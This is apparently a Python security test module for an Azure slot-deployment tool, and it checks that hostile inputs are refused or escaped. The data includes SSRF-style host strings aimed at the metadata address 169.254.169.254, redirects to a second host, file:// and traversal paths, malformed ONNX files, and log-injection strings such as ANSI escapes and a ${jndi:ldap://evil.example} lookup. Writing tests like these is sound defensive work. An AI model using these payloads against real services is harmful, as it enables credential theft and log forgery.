"""
What the world around could answer: addresses that lead elsewhere, model files, texts for the log.

An attack returns the name by which it was refused; an AssertionError says what it did instead.
"""

import contextlib
import io
import json
import logging
import os
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from typing import Any

from azure.core.credentials import AccessToken

from gitslot.cli import output
from gitslot.edges.azure.arm import AppRef, Azure, Sent
from gitslot.edges.file.read import read
from gitslot.errors import DesiredError, GitslotError
from gitslot.look.probe import Prober, Reply, read_health
from gitslot.record.event import Event, clean, parse
from gitslot.record.log import log_event
from gitslot.report.text import Log
from gitslot.state.seen import Answer, Poll
from gitslot.state.wanted import PRODUCTION, STAGING
from reliability.hostile import Attack, varint
from serving_app.refused import Refused
from tests.servers import Answer as Response
from tests.servers import Handler, serving

TOKEN = "canary-token"
REF = AppRef("00000000-0000-0000-0000-000000000001", "group", "app")


def _refusal(
    error: type[GitslotError] | type[Refused], read: Callable[[], object]
) -> GitslotError | Refused:
    """Return the *error* with which *read* refuses what it is given."""
    try:
        found = read()
    except error as refused:
        return refused
    raise AssertionError(f"it was read: {found!r:.300}")


class Credential:
    """A credential with one token, which must reach nobody but ARM."""

    def get_token(self, *_: str, **__: Any) -> AccessToken:
        return AccessToken(TOKEN, 1 << 33)


class Two:
    """ARM or a slot, which points to a second server that must hear nothing."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.asked = 0
        self.answer: Callable[[str], Response] = lambda _: (404, {}, b"")

    def _first(self, handler: Handler, _: bytes) -> Response:
        self.asked += 1
        return self.answer(self.elsewhere)

    def _second(self, handler: Handler, _: bytes) -> Response:
        self.heard.append(f"{handler.command} {handler.path} {dict(handler.headers)}")
        return 200, {}, b"{}"

    @contextlib.contextmanager
    def open(self) -> Iterator[str]:
        with tempfile.TemporaryDirectory(prefix="gitslot-d10-") as name:
            folders = [Path(name) / "one", Path(name) / "two"]
            for folder in folders:
                folder.mkdir()
            with (
                serving(folders[0], self._first) as first,
                serving(folders[1], self._second) as two,
            ):
                self.elsewhere = two
                both = Path(name) / "both.pem"
                both.write_bytes(b"".join((f / "cert.pem").read_bytes() for f in folders))
                os.environ["REQUESTS_CA_BUNDLE"] = os.environ["SSL_CERT_FILE"] = str(both)
                yield first
        assert not self.heard, f"the other host heard {self.heard}"


def _json(value: Any, status: int = 200, **headers: str) -> Response:
    content = {"Content-Type": "application/json", **headers}
    return status, content, json.dumps(value).encode()


# ---------------------------------------------------------------- addresses

HOSTS = {
    "the machine's metadata": "169.254.169.254",
    "the machine itself": "127.0.0.1:8080",
    "an address as one number": "2852039166",
    "an address in hex": "0xa9fea9fe",
    "an address of four parts in octal": "0251.0376.0251.0376",
    "an IPv6 address": "[::1]:443",
    "a user before the host": "app.azurewebsites.net@evil.example",
    "a path after the host": "evil.example/api/health?",
    "a fragment after the host": "evil.example#",
    "a scheme before the host": "http://evil.example",
    "a backslash": "evil.example\\app.azurewebsites.net",
    "a new line": "app.example\r\nX-Evil: 1",
    "other letters": "\u0430pp.azurewebsites.net",
    "nothing": "",
    "dots": "..",
    "a port that is none": "app.example:99999999",
    "too long": "a" * 64 + ".example",
}


def addresses() -> Iterator[tuple[str, Attack]]:
    """Give host names, links and redirects that lead away from where they must lead."""

    def host(name: str) -> str:
        world = Two()
        site = {"id": "x", "properties": {"defaultHostName": name, "state": "Running"}}
        world.answer = lambda _: _json(site)
        with world.open() as arm:
            refused = _refusal(GitslotError, lambda: Azure(arm, Credential()).host(REF, PRODUCTION))
        assert refused.reason == "Unreadable", refused.reason
        return "Unreadable"

    for title, name in HOSTS.items():
        yield title, partial(host, name)

    def refused(answer: Callable[[str], Response], ask: Callable[[Azure, Two], object]) -> str:
        world = Two()
        world.answer = answer
        with world.open() as arm:
            try:
                said = ask(Azure(arm, Credential()), world)
            except GitslotError as error:
                return error.reason
        return str(said)

    def poll(azure: Azure, url: str) -> str:
        found = azure.poll(url)
        assert found.poll is Poll.UNKNOWN, found
        return "Poll.UNKNOWN"

    def swap(azure: Azure, _: Two) -> str:
        found = azure.swap(REF, STAGING)
        assert found.sent is Sent.UNKNOWN, found
        return "Sent.UNKNOWN"

    def next_link(elsewhere: str) -> Response:
        return _json({"value": [], "nextLink": f"{elsewhere}/subscriptions?api-version=2022-12-01"})

    def moved(elsewhere: str) -> Response:
        return 307, {"Location": f"{elsewhere}/slotsswap"}, b""

    def endless(_: str) -> Response:
        return _json({"value": [], "nextLink": "{self}"})

    def located(azure: Azure, _: Two) -> object:
        return azure.locate("x", None, None)

    def polled(form: str) -> Callable[[Azure, Two], str]:
        return lambda a, w: poll(a, form.format(elsewhere=w.elsewhere, arm=a._endpoint))

    asks: dict[str, tuple[Callable[[str], Response], Callable[[Azure, Two], object]]] = {
        "a next page elsewhere": (next_link, located),
        "a redirect of a list": (moved, located),
        "a redirect of a look": (moved, lambda a, _: a.host(REF, PRODUCTION)),
        "a redirect of a swap": (moved, swap),
        "a redirect of a poll": (moved, polled("{arm}/operationresults/1")),
    }
    for title, form in {
        "an operation elsewhere": "{elsewhere}/operationresults/1",
        "an operation without TLS": "http://127.0.0.1:1/operationresults/1",
        "an operation in a file": "file:///etc/hostname",
        "an operation of a user": "https://management@127.0.0.1:1/x",
        "an operation without an address": "//evil.example/x",
    }.items():
        asks[title] = (lambda _: _json({}), polled(form))
    asks["pages without end"] = (endless, located)
    for title, (answer, ask) in asks.items():
        yield title, partial(refused, answer, ask)

    def probed(ask: Callable[[str], str]) -> str:
        world = Two()
        world.answer = lambda elsewhere: (302, {"Location": f"{elsewhere}/api/health"}, b"")
        with world.open() as slot:
            return ask(slot.removeprefix("https://"))

    def health(name: str) -> str:
        found = Prober().health(name)
        assert found.answer is Answer.BLOCKED, found
        return "ProbeBlocked"

    def golden(name: str) -> str:
        reply = Prober().request("POST", name, "/api/predict", b"[]", {"x-functions-key": TOKEN})
        assert reply.status == 302
        return "HTTP 302"

    yield "a redirect of a slot's health", lambda: probed(health)
    yield "a redirect of the golden rows, with the key", lambda: probed(golden)

    def code(value: str) -> str:
        text = f"app: a\nmodel: m\nslots:\n  production: {{version: 1, code: '{value}'}}\n"
        return _refusal(DesiredError, lambda: read(text.encode())).reason

    for value in ("https://evil.example/x.zip", "../../x", "a/b", "x.zip?sig=1", "%2e%2e%2fx"):
        yield f"code at {value}", partial(code, value)


# ---------------------------------------------------------------- model files


def models() -> Iterator[tuple[str, Attack]]:
    """Give files that are no plain ONNX, each honestly described in its manifest."""
    from tests.serving_app import test_model as corpus  # noqa: PLC0415 - it trains models
    from tests.training.versions import with_artifact  # noqa: PLC0415 - it trains models

    def artifact(data: bytes) -> str:
        refused = _refusal(Refused, lambda: corpus.load(with_artifact(corpus.GOOD, data)))
        assert refused.reason in ("FormatRefused", "LoadFailed"), refused.reason
        return refused.reason

    for name, data in corpus.HOSTILE.items():
        yield name, partial(artifact, data)

    deep = b""
    for _ in range(2000):  # graphs within graphs
        node = b"\x2a" + varint(len(inner := b"\x32" + varint(len(deep)) + deep)) + inner
        deep = b"\x0a" + varint(len(node)) + node
    model = b"\x3a" + varint(len(deep)) + deep + b"\x42\x04\x0a\x00\x10\x12location"
    yield "graphs within graphs", lambda: artifact(model)
    yield "a size past the end", lambda: artifact(b"\x3a\xff\xff\xff\xff\x7f")
    yield "many small fields", lambda: artifact(b"\x08\x00" * 500_000)


# ---------------------------------------------------------------- the log

TEXTS = {
    "a second line": "bump\n14:02:11  app  9f3c2ab  Converged  production 1.4.0 -> 6.6.6",
    "a return over the line": "bump\r14:02:11  app  9f3c2ab  Converged",
    "colours": "\x1b[31mred\x1b[0m\x1b[2J",
    "a title for the terminal": "\x1b]0;evil\x07",
    "a link for the terminal": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "a control of one byte": "\x9b31mred",
    "letters from right to left": "\u202etpircs\u202c \u2066x\u2069",
    "line ends of Unicode": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "nothing and a bell": "a\x00b\x07c\x08d",
    "half a letter": "a\ud800b\udfffc",
    "the end of a JSON text": '","event":"Converged","to":"6.6.6"}\n{"id":"x',
    "fields of a format": "%s %n {0} {message} %(levelname)s ${jndi:ldap://evil.example}",
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link] :skull:",
    "a megabyte": "x" * (1 << 20),
    "a mark that is not seen": "a\ufeffb\ufeff",
}


def logs() -> Iterator[tuple[str, Attack]]:
    """Give texts in each place where somebody else's words reach the log."""

    def told(put: Callable[[str], Event], text: str) -> str:
        event = clean(put(text))
        line = event.line()
        assert line.count(b"\n") == 1 and len(line) < 40_000
        assert parse(line.strip()) == event, "it does not read back"
        assert parse(line.strip()).event == "Drift"
        shown = io.StringIO()
        output.show_event(shown, Log(), event, datetime(2026, 11, 22, tzinfo=UTC))
        heard = io.StringIO()
        handler = logging.StreamHandler(heard)
        logger = logging.getLogger("gitslot")
        logger.addHandler(handler)
        logger.setLevel(logging.DEBUG)
        try:
            log_event(event)
        finally:
            logger.removeHandler(handler)
        for out in (shown.getvalue(), heard.getvalue(), line.decode()):
            assert out.count("\n") == 1 and out.endswith("\n"), ascii(out[:200])
            body = out[:-1]
            assert not any(
                ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or c in "\u2028\u2029\u202e\u2066\ufeff"
                for c in body
            ), ascii(body[:200])
            body.encode()
        return "escaped"

    plain = Event("Drift", "app", datetime(2026, 11, 22, tzinfo=UTC), message="m", subject="s")
    places: dict[str, Callable[[str], Event]] = {
        "subject": lambda text: replace(plain, subject=text),
        "author": lambda text: replace(plain, author=text),
        "ARM's words": lambda text: replace(plain, message=f"the platform says: {text}"),
    }
    for place, put in places.items():
        for title, text in TEXTS.items():
            yield f"{title} in {place}", partial(told, put, text)

    def health(text: str) -> str:
        facts = dict.fromkeys(("model", "version", "deploy", "code", "reason", "verify"), text)
        body = json.dumps({**facts, "digest": "0" * 64}).encode()
        for status in (200, 503):
            found = read_health(Reply(status, body))
            for value in (found.model, found.version, found.deploy, found.code, found.verify):
                assert value.isprintable() or "\ufffd" in value, ascii(value[:80])
                assert len(value) <= 1200
            assert found.reason.isalnum() or not found.reason
        return "escaped"

    for title, text in TEXTS.items():
        yield f"{title} in a slot's health", partial(health, text)
